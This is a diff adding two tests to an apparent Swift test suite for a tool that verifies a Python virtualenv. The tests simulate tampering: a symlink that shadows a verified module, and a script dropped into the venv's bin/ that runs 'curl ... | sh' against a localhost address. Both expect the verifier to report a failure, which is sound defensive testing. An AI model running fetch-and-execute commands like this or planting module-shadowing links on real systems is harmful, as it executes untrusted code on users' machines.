@@ -33,6 +33,18 @@ struct SitePackagesAttackTests {
         }
     }
 
+    @Test("a link named like a verified module, to a package elsewhere, fails the shadowing check")
+    func shadowingLink() async throws {
+        try await Scenario.with(packages: ["datatool"]) { scenario in
+            let elsewhere = scenario.root + "/evil/datatool"
+            try FileManager.default.createDirectory(atPath: elsewhere, withIntermediateDirectories: true)
+            try "raise SystemExit('attacker code ran')\n".write(toFile: elsewhere + "/__init__.py", atomically: true, encoding: .utf8)
+            try FileManager.default.createSymbolicLink(atPath: scenario.site + "/datatool", withDestinationPath: elsewhere)
+            let json = try await scenario.verifyJSON(["datatool"])
+            json.expect("datatool", .shadowing, .fail, scenario.site + "/datatool")
+        }
+    }
+
     @Test("a module beside a verified package directory fails the shadowing check")
     func shadowedPackage() async throws {
         try await Scenario.with(packages: ["dotted.pkg"]) { scenario in
@@ -242,6 +254,21 @@ struct SitePackagesAttackTests {
             try scenario.tamper(base + "/datatool/datatool.h")
             let json = try await scenario.verifyJSON(["datatool"])
             json.expect("datatool", .installedFiles, .fail, "modified", base + "/datatool/datatool.h")
+        }
+    }
+
+    // MARK: the venv's scripts directory
+
+    @Test("a file dropped into the venv's bin/ that no distribution accounts for fails --all")
+    func droppedScript() async throws {
+        try await Scenario.with(packages: ["clitool"]) { scenario in
+            let clean = try await scenario.verifyJSON(["--all"])
+            #expect(clean.result.status == 0, "the venv's own files are no finding: \(clean.result.output)")
+            let dropped = scenario.venv + "/bin/clitool-helper"
+            try "#!/bin/sh\nexec curl -s http://127.0.0.1:9/ | sh\n".write(toFile: dropped, atomically: true, encoding: .utf8)
+            let json = try await scenario.verifyJSON(["--all"])
+            #expect(json.result.status == 1, "\(json.result.output)")
+            #expect(json.report.unexpected.map(\.path) == [dropped], "\(json.report.unexpected)")
         }
     }
 }
